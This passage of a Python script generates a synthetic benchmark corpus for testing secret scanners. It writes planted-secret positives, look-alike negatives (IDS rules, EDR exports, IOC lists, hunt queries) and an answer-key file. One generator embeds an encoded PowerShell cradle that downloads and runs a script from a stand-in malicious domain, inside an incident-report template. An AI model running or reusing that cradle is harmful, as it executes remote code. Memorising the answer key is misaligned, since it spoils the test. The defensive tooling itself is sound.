Fingerprint: ⟦FPR⟧

-----BEGIN PGP PUBLIC KEY BLOCK-----

⟦BODY⟧
⟦CRC⟧
-----END PGP PUBLIC KEY BLOCK-----
''', DOM=corp(r), FPR=fpr, BODY="\n".join(lines), CRC=crc)


@N("suricata", "ids_rules")
def n_suricata(r):
    out = []
    sid = r.randint(9000000, 9100000)
    for i in range(r.randint(4, 8)):
        k = r.randrange(3)
        if k == 0:
            out.append('alert tls $HOME_NET any -> $EXTERNAL_NET any (msg:"SOC %s JA3 match"; ja3.hash; content:"%s"; classtype:trojan-activity; sid:%d; rev:%d;)' % (pick(r, MALWARE), md5(r), sid + i, r.randint(1, 4)))
        elif k == 1:
            out.append('alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"SOC beacon URI"; flow:established,to_server; http.uri; content:"/%s/"; content:"|%s|"; distance:0; sid:%d; rev:1;)' % (rs(r, 8, LO + DG), " ".join(hx(r, 2) for _ in range(6)), sid + i))
        else:
            out.append('alert dns $HOME_NET any -> any any (msg:"SOC known C2 domain"; dns.query; content:"%s"; nocase; sid:%d; rev:2;)' % (evil_domain(r), sid + i))
    return pick(r, ["suricata/rules/local.rules", "ids/soc-custom.rules"]), "# SOC custom rules - generated %s\n" % day(r) + "\n".join(out) + "\n"


@N("suricata", "eve_log")
def n_eve(r):
    out = []
    for _ in range(r.randint(4, 7)):
        ev = {"timestamp": iso(r).replace("Z", ".%06d+0000" % r.randint(0, 999999)), "flow_id": r.randint(10 ** 14, 10 ** 16),
              "in_iface": "eth1", "event_type": "alert", "src_ip": int_ip(r), "src_port": r.randint(1024, 65000),
              "dest_ip": pub_ip(r), "dest_port": pick(r, [443, 80, 53, 8443]), "proto": "TCP",
              "community_id": "1:" + b64(r, 20),
              "alert": {"action": "allowed", "gid": 1, "signature_id": r.randint(2000000, 2050000), "rev": r.randint(1, 9),
                        "signature": "ET MALWARE %s CnC Checkin" % pick(r, MALWARE), "severity": 1},
              "tls": {"sni": evil_domain(r), "ja3": {"hash": md5(r)}, "ja3s": {"hash": md5(r)}}}
        out.append(json.dumps(ev))
    return pick(r, ["samples/eve-alerts.json", "tests/fixtures/suricata_eve.ndjson"]), "\n".join(out) + "\n"


@N("wazuh", "alerts_json")
def n_wazuh_alerts(r):
    out = []
    for _ in range(r.randint(3, 5)):
        path = pick(r, ["/etc/passwd", "/usr/bin/sudo", "/etc/ssh/sshd_config", "/var/www/html/index.php"])
        ev = {"timestamp": iso(r).replace("Z", ".123+0000"), "rule": {"level": 7, "description": "Integrity checksum changed.", "id": "550",
              "mitre": {"id": ["T1565.001"]}, "groups": ["ossec", "syscheck"]},
              "agent": {"id": "%03d" % r.randint(1, 400), "name": pick(r, HOSTS), "ip": int_ip(r)},
              "manager": {"name": "wazuh-manager"}, "id": "%d.%d" % (1700000000 + r.randint(0, 30000000), r.randint(100000, 9999999)),
              "syscheck": {"path": path, "md5_before": md5(r), "md5_after": md5(r), "sha1_before": sha1(r), "sha1_after": sha1(r),
                           "sha256_before": sha256(r), "sha256_after": sha256(r), "event": "modified"},
              "decoder": {"name": "syscheck_integrity_changed"}, "location": "syscheck"}
        out.append(json.dumps(ev))
    return pick(r, ["tests/fixtures/wazuh_alerts.json", "samples/wazuh/syscheck-alerts.json"]), "\n".join(out) + "\n"


@N("stix", "stix_bundle")
def n_stix(r):
    objs = [{"type": "identity", "spec_version": "2.1", "id": "identity--" + uuid4(r), "name": "ACME SOC", "identity_class": "organization"}]
    for _ in range(r.randint(3, 6)):
        h = sha256(r)
        objs.append({"type": "indicator", "spec_version": "2.1", "id": "indicator--" + uuid4(r), "created": iso(r), "modified": iso(r),
                     "name": "%s sample" % pick(r, MALWARE), "pattern": "[file:hashes.'SHA-256' = '%s']" % h, "pattern_type": "stix",
                     "valid_from": iso(r), "labels": ["malicious-activity"]})
    bundle = {"type": "bundle", "id": "bundle--" + uuid4(r), "objects": objs}
    return pick(r, ["intel/stix/bundle-%s.json" % day(r), "ti/exports/stix21.json"]), json.dumps(bundle, indent=2) + "\n"


@N("misp", "event_export")
def n_misp_event(r):
    attrs = []
    for _ in range(r.randint(4, 8)):
        k = r.randrange(4)
        t, val = [("md5", md5(r)), ("sha256", sha256(r)), ("ip-dst", pub_ip(r)), ("domain", evil_domain(r))][k]
        attrs.append({"uuid": uuid4(r), "type": t, "category": "Network activity" if k > 1 else "Payload delivery", "to_ids": True, "value": val, "timestamp": str(1700000000 + r.randint(0, 3 * 10 ** 7))})
    ev = {"Event": {"uuid": uuid4(r), "info": "%s campaign %s" % (pick(r, MALWARE), day(r)), "threat_level_id": "2", "analysis": "2",
                    "distribution": "1", "Orgc": {"name": "CIRCL", "uuid": uuid4(r)}, "Tag": [{"name": "tlp:green"}], "Attribute": attrs}}
    return pick(r, ["intel/misp/event-%d.json" % r.randint(1000, 99999), "tests/fixtures/misp_event.json"]), json.dumps(ev, indent=2) + "\n"


@N("crowdstrike", "detection_export")
def n_cs_detection(r):
    aid, cid = hx(r, 32), hx(r, 32)
    det = {"detection_id": "ldt:%s:%d" % (aid, r.randint(10 ** 10, 10 ** 12)), "cid": cid, "created_timestamp": iso(r),
           "device": {"device_id": aid, "hostname": pick(r, HOSTS), "platform_name": "Windows", "agent_version": "7.%d.%d" % (r.randint(10, 16), r.randint(16000, 18999)),
                      "local_ip": int_ip(r), "external_ip": pub_ip(r), "mac_address": "-".join(hx(r, 2) for _ in range(6))},
           "behaviors": [{"behavior_id": str(r.randint(10000, 99999)), "filename": "powershell.exe", "sha256": sha256(r), "md5": md5(r),
                          "parent_details": {"parent_sha256": sha256(r), "parent_md5": md5(r), "parent_process_graph_id": "pid:%s:%d" % (aid, r.randint(10 ** 9, 10 ** 11))},
                          "tactic": "Execution", "technique": "PowerShell", "technique_id": "T1059.001", "severity": 70}],
           "max_severity_displayname": "High", "status": "new"}
    return pick(r, ["tests/fixtures/falcon_detection.json", "samples/edr/detection-%s.json" % hx(r, 6)]), json.dumps(det, indent=2) + "\n"


@N("microsoft-defender", "kql_hunt")
def n_kql(r):
    hs = ",\n    ".join('"%s"' % sha256(r) for _ in range(r.randint(4, 8)))
    return pick(r, ["hunting/%s_hashes.kql" % pick(r, MALWARE).lower().replace(" ", "_"), "sentinel/hunting/known_bad_hashes.kql"]), fill('''
// Known-bad hashes from IR-⟦N⟧ (⟦FAM⟧)
let bad = dynamic([
    ⟦HS⟧
]);
DeviceFileEvents
| where Timestamp > ago(30d)
| where SHA256 in (bad)
| project Timestamp, DeviceName, FolderPath, FileName, SHA256, InitiatingProcessAccountName
| order by Timestamp desc
''', N=r.randint(1000, 9999), FAM=pick(r, MALWARE), HS=hs)


@N("splunk", "spl_search")
def n_spl(r):
    hs = " OR ".join('file_hash="%s"' % md5(r) for _ in range(r.randint(3, 6)))
    return pick(r, ["splunk/searches/ioc_sweep.spl", "hunting/spl/ioc_md5.spl"]), fill('''
index=edr sourcetype=crowdstrike:events:sensor (⟦HS⟧)
| eval host_id=coalesce(aid, ComputerName)
| lookup soc_asset_owner host_id OUTPUT owner, business_unit
| stats earliest(_time) as first_seen latest(_time) as last_seen values(FileName) as files by host_id, owner, file_hash
| convert ctime(first_seen) ctime(last_seen)
''', HS=hs)


@N("elastic", "detection_rule_toml")
def n_es_rule(r):
    tid, tname = pick(r, TECHNIQUES)
    return pick(r, ["rules/windows/%s.toml" % tname.lower().replace(" ", "_").replace("/", ""), "detection-rules/custom/%s.toml" % rs(r, 8, LO)]), fill('''
[metadata]
creation_date = "⟦D1⟧"
integration = ["endpoint"]
maturity = "production"
updated_date = "⟦D2⟧"

[rule]
author = ["SOC"]
description = "Identifies ⟦TN⟧ behaviour."
from = "now-9m"
index = ["logs-endpoint.events.process-*"]
language = "eql"
license = "Elastic License v2"
name = "⟦TN⟧ via unusual parent"
risk_score = 47
rule_id = "⟦RID⟧"
severity = "medium"
tags = ["Domain: Endpoint", "OS: Windows", "Tactic: Execution"]
type = "eql"
query = \'\'\'
process where host.os.type == "windows" and event.type == "start" and
  process.parent.name : ("winword.exe", "excel.exe") and process.name : "⟦IMG⟧"
\'\'\'

[[rule.threat]]
framework = "MITRE ATT&CK"
[[rule.threat.technique]]
id = "⟦TID⟧"
name = "⟦TN⟧"
reference = "https://attack.mitre.org/techniques/⟦TURL⟧/"
''', D1=day(r).replace("-", "/"), D2=day(r).replace("-", "/"), TN=tname, RID=uuid4(r), IMG=pick(r, ["powershell.exe", "cmd.exe", "mshta.exe"]),
                TID=tid, TURL=tid.replace(".", "/"))


@N("tls", "cert_fingerprints")
def n_fingerprints(r):
    out = ["# pinned certificates for outbound integrations (rotated %s)" % day(r), "pins:"]
    for svc in r.sample(["www.virustotal.com", "api.greynoise.io", "urlscan.io", "api.abuseipdb.com", "misp." + corp(r), "thehive." + corp(r)], 4):
        out.append("  - host: %s" % svc)
        out.append("    sha256: \"%s\"" % ":".join(rs(r, 2, "0123456789ABCDEF") for _ in range(32)))
        out.append("    spki_pin: \"%s\"" % b64(r, 32))
    return pick(r, ["config/pins.yaml", "deploy/egress/cert-pins.yml"]), "\n".join(out) + "\n"


@N("ssh", "public_keys")
def n_ssh(r):
    out = ["# SOC jump host - analysts", ]
    for a in r.sample(ANALYSTS, r.randint(3, 5)):
        if r.random() < 0.6:
            out.append("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s %s@soc-laptop" % (b64(r, 32)[:43], a))
        else:
            out.append("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ%s %s@jump" % (b64(r, 380)[:500], a))
    return pick(r, ["ansible/roles/jumphost/files/authorized_keys", "keys/analysts.pub"]), "\n".join(out) + "\n"


@N("x509", "certificate")
def n_cert(r):
    body = "MIIDdzCCAl+gAwIBAgIU" + b64(r, 780)
    lines = [body[i:i + 64] for i in range(0, len(body), 64)]
    return pick(r, ["wazuh/certs/root-ca.pem", "config/certs/soc-ca.crt", "deploy/tls/ca-bundle.pem"]), (
        "# SOC internal root CA (public certificate, safe to distribute)\n-----BEGIN CERTIFICATE-----\n" + "\n".join(lines) + "\n-----END CERTIFICATE-----\n")


@N("container", "image_digests")
def n_dockerfile_digest(r):
    return pick(r, ["docker/enricher/Dockerfile", "images/cortex-analyzers/Dockerfile"]), fill('''
# pinned by digest (renovate)
FROM python:3.12-slim@sha256:⟦D1⟧ AS build
WORKDIR /src
COPY requirements.lock .
RUN pip wheel --no-deps -w /wheels -r requirements.lock

FROM gcr.io/distroless/python3-debian12@sha256:⟦D2⟧
COPY --from=build /wheels /wheels
LABEL org.opencontainers.image.revision="⟦REV⟧"
ENTRYPOINT ["python3", "-m", "enricher"]
''', D1=sha256(r), D2=sha256(r), REV=sha1(r))


@N("python", "pip_hashes")
def n_pip_hashes(r):
    pkgs = ["requests==2.31.0", "pymisp==2.4.190", "thehive4py==1.8.1", "vt-py==0.18.2", "greynoise==2.2.0", "shodan==1.31.0", "urllib3==2.2.1", "certifi==2024.2.2"]
    out = ["# generated by pip-compile --generate-hashes"]
    for p in r.sample(pkgs, r.randint(4, 7)):
        out.append("%s \\" % p)
        out.append("    --hash=sha256:%s \\" % sha256(r))
        out.append("    --hash=sha256:%s" % sha256(r))
    return pick(r, ["requirements.lock", "enricher/requirements.txt"]), "\n".join(out) + "\n"


@N("checksums", "sha256sums")
def n_sha256sums(r):
    files = ["wazuh-agent-4.7.%d-1.x86_64.rpm" % r.randint(0, 4), "falcon-sensor-7.%d.0-1.el9.x86_64.rpm" % r.randint(10, 16),
             "SentinelAgent_linux_x86_64_v23_4.rpm", "velociraptor-v0.7.%d-linux-amd64" % r.randint(0, 2), "sysmon-config.xml", "osquery-5.%d.0.msi" % r.randint(8, 12)]
    return pick(r, ["dist/SHA256SUMS", "packages/checksums.sha256"]), "\n".join("%s  %s" % (sha256(r), f) for f in r.sample(files, 4)) + "\n"


@N("git", "changelog_shas")
def n_changelog(r):
    out = ["# Changelog", ""]
    for _ in range(r.randint(3, 5)):
        out.append("## %d.%d.%d - %s" % (r.randint(1, 3), r.randint(0, 12), r.randint(0, 9), day(r)))
        for _ in range(r.randint(2, 4)):
            out.append("- %s (%s)" % (pick(r, ["fix rate limiting for VT lookups", "add GreyNoise RIOT filter", "rotate credentials via Vault agent", "new Sigma rule for LSASS access", "bump pymisp", "retry on 429 from urlscan"]), hx(r, 7) if r.random() < 0.6 else sha1(r)))
        out.append("")
    return "CHANGELOG.md", "\n".join(out)


@N("report", "encoded_powershell")
def n_encoded_ps(r):
    cmd = "IEX (New-Object Net.WebClient).DownloadString('http://%s/%s.ps1')" % (evil_domain(r), rs(r, 5, LO))
    enc = base64.b64encode(cmd.encode("utf-16-le")).decode()
    return pick(r, ["reports/IR-%d-evidence.md" % r.randint(1000, 9999), "docs/triage/encoded-command-%s.md" % day(r)]), fill('''
## Evidence: encoded PowerShell (process tree from EDR)

Parent: `WINWORD.EXE` -> `powershell.exe -nop -w hidden -enc <blob>`

```
⟦ENC⟧
```

Decoded (UTF-16LE):

```
⟦CMD⟧
```

The download host was sinkholed; hash of the retrieved script: `⟦H⟧`.
''', ENC=enc, CMD=cmd.replace("http://", "hxxp://"), H=sha256(r))


@N("microsoft-entra", "public_ids")
def n_entra_ids(r):
    return pick(r, ["src/SocBridge/appsettings.json", "config/entra.json"]), fill('''
{
  "AzureAd": {
    "Instance": "https://login.microsoftonline.com/",
    "TenantId": "⟦TID⟧",
    "ClientId": "⟦CLID⟧",
    "ClientCredentials": [
      {
        "SourceType": "KeyVault",
        "KeyVaultUrl": "https://kv-soc-prod.vault.azure.net",
        "KeyVaultCertificateName": "soc-bridge-auth"
      }
    ]
  },
  "Sentinel": { "WorkspaceId": "⟦WID⟧", "ResourceGroup": "rg-soc-prod" }
}
''', TID=uuid4(r), CLID=uuid4(r), WID=uuid4(r))


@N("tines", "story_credential_refs")
def n_tines_refs(r):
    return pick(r, ["tines/stories/ip-enrichment.json", "exports/ip-triage-story.json"]), fill('''
{
  "schema_version": 23,
  "name": "IP enrichment",
  "guid": "⟦G⟧",
  "agents": [
    {"type": "Agents::HTTPRequestAgent", "name": "GreyNoise",
     "options": {"url": "https://api.greynoise.io/v3/community/<<input.ip>>", "headers": {"key": "<<CREDENTIAL.greynoise>>"}}},
    {"type": "Agents::HTTPRequestAgent", "name": "AbuseIPDB",
     "options": {"url": "https://api.abuseipdb.com/api/v2/check", "payload": {"ipAddress": "<<input.ip>>"},
                 "headers": {"Key": "<<CREDENTIAL.abuseipdb>>", "Accept": "application/json"}}}
  ],
  "diagram_layout": {"⟦G2⟧": [120, 60], "⟦G3⟧": [120, 180]}
}
''', G=hx(r, 32), G2=hx(r, 32), G3=hx(r, 32))


@N("pagerduty", "terraform_ids")
def n_pd_ids(r):
    ids = ["P%s" % rs(r, 6, UP + DG) for _ in range(4)]
    return pick(r, ["terraform/oncall/main.tf", "infra/pagerduty/services.tf"]), fill('''
variable "pagerduty_token" {
  type      = string
  sensitive = true
}

provider "pagerduty" {
  token = var.pagerduty_token
}

locals {
  soc_schedule_id   = "⟦I1⟧"
  soc_escalation_id = "⟦I2⟧"
  ir_team_id        = "⟦I3⟧"
}

output "edr_integration_key" {
  value     = pagerduty_service_integration.edr_events.integration_key
  sensitive = true
}
''', I1=ids[0], I2=ids[1], I3=ids[2])


@N("slack", "channel_ids")
def n_slack_ids(r):
    return pick(r, ["config/notify.yaml", "soar/config/slack_routing.yml"]), fill('''
slack:
  # bot token comes from Vault (secret/soc/slack-bot), never from this file
  workspace_id: T⟦W⟧
  app_id: A⟦A⟧
  channels:
    alerts: C⟦C1⟧
    incidents: C⟦C2⟧
    threat-intel: C⟦C3⟧
  escalation_users: [U⟦U1⟧, U⟦U2⟧]
''', W=rs(r, 9, UP + DG), A=rs(r, 10, UP + DG), C1=rs(r, 10, UP + DG), C2=rs(r, 10, UP + DG), C3=rs(r, 10, UP + DG),
                U1=rs(r, 10, UP + DG), U2=rs(r, 10, UP + DG))


@N("atlassian", "issue_export")
def n_jira_csv(r):
    rows = ["Issue key,Issue id,Summary,Status,Created,Custom field (Alert ID),Custom field (Observable)"]
    for _ in range(r.randint(5, 10)):
        rows.append("SOC-%d,%d,%s,%s,%s,%s,%s" % (r.randint(100, 9999), r.randint(10000, 99999),
                                                 pick(r, ["Phishing reported", "EDR: suspicious PowerShell", "Impossible travel", "Malware blocked", "Brute force"]),
                                                 pick(r, ["Done", "In Progress", "Triage"]), day(r), uuid4(r), pick(r, [sha256(r), pub_ip(r), evil_domain(r)])))
    return pick(r, ["exports/jira_soc_%s.csv" % day(r), "reports/soc-tickets.csv"]), "\n".join(rows) + "\n"


@N("tenable", "plugin_output")
def n_tenable_csv(r):
    rows = ["Plugin ID,CVE,CVSS v3.0 Base Score,Risk,Host,Protocol,Port,Name,Plugin Output"]
    for _ in range(r.randint(5, 9)):
        rows.append('%d,%s,%.1f,%s,%s,tcp,%d,"%s","Installed version : %d.%d.%d / file sha256 %s"' % (
            r.randint(10000, 190000), cve(r), r.uniform(4, 10), pick(r, ["Critical", "High", "Medium"]), int_ip(r), pick(r, [443, 22, 445, 3389, 8080]),
            pick(r, ["OpenSSL Vulnerability", "Apache Log4j RCE", "SMB Signing not required", "Outdated Chrome"]), r.randint(1, 9), r.randint(0, 20), r.randint(0, 99), sha256(r)))
    return pick(r, ["exports/tenable_%s.csv" % day(r), "vuln/reports/scan-results.csv"]), "\n".join(rows) + "\n"


@N("wazuh", "ossec_conf")
def n_ossec(r):
    return pick(r, ["wazuh/manager/ossec.conf", "config/wazuh/ossec.conf"]), fill('''
<ossec_config>
  <global>
    <jsonout_output>yes</jsonout_output>
    <alerts_log>yes</alerts_log>
    <email_notification>no</email_notification>
  </global>
  <integration>
    <name>custom-thehive</name>
    <hook_url>https://thehive.⟦DOM⟧/api/v1/alert</hook_url>
    <api_key>$THEHIVE_API_KEY</api_key>
    <level>10</level>
    <alert_format>json</alert_format>
  </integration>
  <syscheck>
    <frequency>43200</frequency>
    <directories realtime="yes" check_all="yes">/etc,/usr/bin,/usr/sbin</directories>
  </syscheck>
  <ruleset>
    <rule_exclude>0215-policy_rules.xml</rule_exclude>
    <list>etc/lists/malicious-ioc/malicious-ip</list>
  </ruleset>
</ossec_config>
''', DOM=corp(r))


@N("windows", "sysmon_event")
def n_sysmon(r):
    return pick(r, ["samples/sysmon/event1.xml", "tests/fixtures/sysmon_process_create.xml"]), fill('''
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
  <System>
    <Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}" />
    <EventID>1</EventID>
    <TimeCreated SystemTime="⟦T⟧" />
    <Computer>⟦HOST⟧.⟦DOM⟧</Computer>
  </System>
  <EventData>
    <Data Name="ProcessGuid">{⟦PG⟧}</Data>
    <Data Name="Image">C:\\Windows\\System32\\rundll32.exe</Data>
    <Data Name="CommandLine">rundll32.exe C:\\Users\\Public\\⟦F⟧.dll,DllRegisterServer</Data>
    <Data Name="Hashes">SHA1=⟦S1⟧,MD5=⟦M⟧,SHA256=⟦S2⟧,IMPHASH=⟦IMP⟧</Data>
    <Data Name="LogonGuid">{⟦LG⟧}</Data>
    <Data Name="ParentProcessGuid">{⟦PPG⟧}</Data>
  </EventData>
</Event>
''', T=iso(r), HOST=pick(r, HOSTS), DOM=corp(r), PG=uuid4(r).upper(), F=rs(r, 6, LO), S1=sha1(r).upper(), M=md5(r).upper(),
                S2=sha256(r).upper(), IMP=md5(r).upper(), LG=uuid4(r).upper(), PPG=uuid4(r).upper())


@N("virustotal", "report_json")
def n_vt_report(r):
    rep = {"data": {"id": sha256(r), "type": "file", "attributes": {
        "md5": md5(r), "sha1": sha1(r), "sha256": sha256(r),
        "ssdeep": "%d:%s:%s" % (pick(r, [96, 192, 384, 768]), rs(r, 40, ALNUM + "+/"), rs(r, 30, ALNUM + "+/")),
        "tlsh": "T1" + rs(r, 70, "0123456789ABCDEF"), "vhash": "%d%s" % (r.randint(10000, 99999), hx(r, 24)),
        "authentihash": sha256(r), "imphash": md5(r), "type_description": "Win32 DLL",
        "last_analysis_stats": {"malicious": r.randint(20, 60), "suspicious": 0, "undetected": r.randint(5, 20)},
        "meaningful_name": "%s.dll" % rs(r, 7, LO)}}}
    return pick(r, ["tests/fixtures/vt_file_report.json", "samples/vt/%s.json" % hx(r, 12)]), json.dumps(rep, indent=2) + "\n"


@N("observability", "trace_ids_log")
def n_trace_log(r):
    out = []
    for _ in range(r.randint(6, 10)):
        out.append("%s level=info msg=\"enrichment done\" request_id=%s trace_id=%s span_id=%s observable=%s latency_ms=%d" % (
            iso(r), uuid4(r), hx(r, 32), hx(r, 16), pick(r, [pub_ip(r), evil_domain(r), sha256(r)]), r.randint(40, 2400)))
    return pick(r, ["logs/enricher.log", "var/log/soar/worker.log"]), "\n".join(out) + "\n"


@N("kubernetes", "encoded_configmap")
def n_configmap(r):
    rules = "\n".join("%s %s" % (pub_ip(r), pick(r, ["scanner", "tor-exit", "botnet"])) for _ in range(8))
    blob = base64.b64encode(zlib.compress(rules.encode())).decode()
    return pick(r, ["deploy/k8s/blocklist-configmap.yaml", "k8s/soc/ioc-blocklist.yaml"]), fill('''
apiVersion: v1
kind: ConfigMap
metadata:
  name: ioc-blocklist
  namespace: soc
  annotations:
    soc.example/generated: "⟦T⟧"
    soc.example/checksum: "sha256:⟦H⟧"
binaryData:
  blocklist.txt.z: ⟦B⟧
data:
  format: "zlib"
''', T=iso(r), H=sha256(r), B=blob)


@N("velociraptor", "hunt_artifact")
def n_velo(r):
    return pick(r, ["velociraptor/artifacts/Custom.Hunt.KnownHashes.yaml", "dfir/artifacts/known_hashes.yaml"]), fill('''
name: Custom.Hunt.KnownHashes
description: |
  Sweep user profiles for files matching IR-⟦N⟧ hashes.
parameters:
  - name: HashList
    default: |
      ⟦H1⟧
      ⟦H2⟧
      ⟦H3⟧
sources:
  - query: |
      LET hashes <= SELECT _value AS h FROM foreach(row=split(string=HashList, sep="\\n"))
      SELECT FullPath, hash(path=FullPath).SHA256 AS sha256
      FROM glob(globs="C:/Users/*/AppData/**/*.dll")
      WHERE sha256 IN hashes.h
''', N=r.randint(1000, 9999), H1=sha256(r), H2=sha256(r), H3=sha256(r))


@N("osquery", "query_pack")
def n_osquery(r):
    pack = {"platform": "windows", "version": "5.%d.0" % r.randint(8, 12), "queries": {}}
    for name in r.sample(["startup_items", "scheduled_tasks", "unsigned_drivers", "lsass_handles", "new_services"], 3):
        pack["queries"][name] = {"query": "SELECT * FROM %s;" % name, "interval": pick(r, [300, 900, 3600]), "description": "IR pack", "id": uuid4(r)}
    pack["known_bad_sha256"] = [sha256(r) for _ in range(3)]
    return pick(r, ["osquery/packs/ir.conf", "fleet/packs/ir-pack.json"]), json.dumps(pack, indent=2) + "\n"


@N("misp", "feed_config")
def n_misp_feeds(r):
    feeds = []
    for name, url in r.sample([("abuse.ch URLhaus", "https://urlhaus.abuse.ch/downloads/csv_recent/"), ("CIRCL OSINT", "https://www.circl.lu/doc/misp/feed-osint"),
                               ("Feodo IP blocklist", "https://feodotracker.abuse.ch/downloads/ipblocklist.csv"), ("Botvrij.eu", "https://www.botvrij.eu/data/feed-osint"),
                               ("ThreatFox", "https://threatfox.abuse.ch/export/json/recent/")], 3):
        feeds.append({"Feed": {"name": name, "provider": name.split()[0], "url": url, "source_format": "misp" if "osint" in url else "csv",
                               "enabled": True, "uuid": uuid4(r), "distribution": "3", "caching_enabled": True}})
    return pick(r, ["misp/feeds.json", "config/misp_default_feeds.json"]), json.dumps(feeds, indent=2) + "\n"


@N("dns", "passive_dns_csv")
def n_pdns(r):
    rows = ["query,rtype,answer,first_seen,last_seen,count"]
    for _ in range(r.randint(6, 12)):
        d = evil_domain(r)
        rows.append("%s,%s,%s,%s,%s,%d" % (d, pick(r, ["A", "CNAME", "TXT"]), pick(r, [pub_ip(r), "cdn-%s.%s" % (hx(r, 8), pick(r, EVIL_TLDS)), "v=spf1 -all"]), day(r), day(r), r.randint(1, 4000)))
    return pick(r, ["intel/pdns/lookup-%s.csv" % day(r), "ti/pdns_results.csv"]), "\n".join(rows) + "\n"


@N("ioc", "hash_list_txt")
def n_hash_txt(r):
    out = ["# %s hashes - shared by ISAC on %s (TLP:GREEN)" % (pick(r, MALWARE), day(r))]
    for _ in range(r.randint(8, 16)):
        out.append(pick(r, [md5(r), sha1(r), sha256(r)]))
    return pick(r, ["intel/hashes/isac-%s.txt" % day(r), "ti/blocklists/hashes.txt"]), "\n".join(out) + "\n"


@N("cortex", "job_report")
def n_cortex_job(r):
    job = {"id": rs(r, 20, ALNUM + "-_"), "analyzerId": hx(r, 32), "analyzerName": "VirusTotal_GetReport_3_1", "dataType": "hash",
           "data": sha256(r), "tlp": 2, "status": "Success", "startDate": 1700000000000 + r.randint(0, 10 ** 10),
           "report": {"summary": {"taxonomies": [{"level": "malicious", "namespace": "VT", "predicate": "GetReport", "value": "%d/71" % r.randint(10, 60)}]},
                      "full": {"scan_id": "%s-%d" % (sha256(r), 1700000000 + r.randint(0, 10 ** 7)), "permalink": "https://www.virustotal.com/gui/file/%s" % sha256(r)}}}
    return pick(r, ["tests/fixtures/cortex_job.json", "samples/cortex/vt-job.json"]), json.dumps(job, indent=2) + "\n"


# ============================================================================= driver
EXT_MAP = {"yaml": "yml", "local": "ini", "qcrc": "ini", "cfg": "ini", "keys": "text", "asc": "pgp",
           "txt": "text", "pub": "text", "lock": "text", "sha256": "text", "crt": "pem", "yar": "yara",
           "ndjson": "json"}


def filetype(path):
    base = os.path.basename(path)
    if base.startswith(".env"):
        return "env"
    if base == "Dockerfile":
        return "dockerfile"
    if base in ("authorized_keys", "SHA256SUMS"):
        return "text"
    ext = base.rsplit(".", 1)[1].lower() if "." in base.lstrip(".") else base.lower().lstrip(".")
    return EXT_MAP.get(ext, ext)


def is_blocked_env(path):
    base = os.path.basename(path)
    if base == ".env":
        return True
    if base.startswith(".env."):
        return base.split(".")[2] not in ("example", "sample", "template", "dist")
    return False


def cycle_order(r, n_items, count):
    order = []
    while len(order) < count:
        block = list(range(n_items))
        r.shuffle(block)
        order += block
    return order[:count]


def write(outdir, rel, text):
    full = os.path.join(outdir, rel)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "w", encoding="utf-8", newline="\n") as f:
        f.write(text)


def needle_of(t, secret):
    return secret.split("\n")[0] if t["kind"] == "private_key" else secret


def main(argv):
    if len(argv) != 3:
        print("usage: gen_fw.py OUTDIR SEED", file=sys.stderr)
        return 2
    outdir, seed = argv[1], int(argv[2])
    r = random.Random(seed)
    for sub in ("pos", "neg"):
        shutil.rmtree(os.path.join(outdir, sub), ignore_errors=True)
    os.makedirs(outdir, exist_ok=True)

    manifest, secrets = [], []
    env_cap = N_POS // 20 - 1
    env_used = 0

    # ---- positives
    order = cycle_order(r, len(POS), N_POS)
    for i, ti in enumerate(order):
        while True:
            t = POS[ti]
            secret = t["gen"](r)
            c = Ctx(r, t["lang"], False, t["env"])
            path, text = t["fn"](r, secret, c)
            if is_blocked_env(path) and env_used >= env_cap:
                ti = r.randrange(len(POS))
                continue
            break
        if is_blocked_env(path):
            env_used += 1
        needle = needle_of(t, secret)
        assert needle and "\n" not in needle
        idx = text.find(needle)
        assert idx >= 0, (t["name"], needle)
        line = text.count("\n", 0, idx) + 1
        assert needle in text.split("\n")[line - 1], (t["name"], line)
        rel = "pos/p%04d/%s" % (i, path)
        write(outdir, rel, text)
        # re-read to prove the needle is on that line of the file actually written
        with open(os.path.join(outdir, rel), encoding="utf-8") as f:
            assert needle in f.read().split("\n")[line - 1]
        manifest.append({"file": rel, "label": "pos", "provider": t["provider"], "kind": t["kind"],
                         "filetype": filetype(path)})
        secrets.append({"file": rel, "needle": needle, "line": line})
    assert env_used <= N_POS // 20

    # ---- negatives: half re-used positive templates, half look-alikes
    kinds = ["reuse"] * (N_NEG // 2) + ["look"] * (N_NEG - N_NEG // 2)
    r.shuffle(kinds)
    reuse_order = cycle_order(r, len(POS), N_NEG // 2)
    look_order = cycle_order(r, len(NEG), N_NEG - N_NEG // 2)
    ri = li = 0
    for i, k in enumerate(kinds):
        if k == "reuse":
            t = POS[reuse_order[ri]]
            ri += 1
            sample = needle_of(t, t["gen"](r))
            v, cat = filler(r, t, len(sample))
            c = Ctx(r, t["lang"], True, t["env"])
            path, text = t["fn"](r, v, c)
            assert sample not in text
            provider, kind = t["provider"], cat
        else:
            n = NEG[look_order[li]]
            li += 1
            path, text = n["fn"](r)
            provider, kind = n["provider"], "lookalike_" + n["kind"]
        assert not is_blocked_env(path), path
        rel = "neg/n%04d/%s" % (i, path)
        write(outdir, rel, text)
        manifest.append({"file": rel, "label": "neg", "provider": provider, "kind": kind,
                         "filetype": filetype(path)})

    with open(os.path.join(outdir, "manifest.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for row in manifest:
            f.write(json.dumps(row) + "\n")
    with open(os.path.join(outdir, "secrets.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for row in secrets:
            f.write(json.dumps(row) + "\n")
    assert len(manifest) == N_POS + N_NEG and len(secrets) == N_POS
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
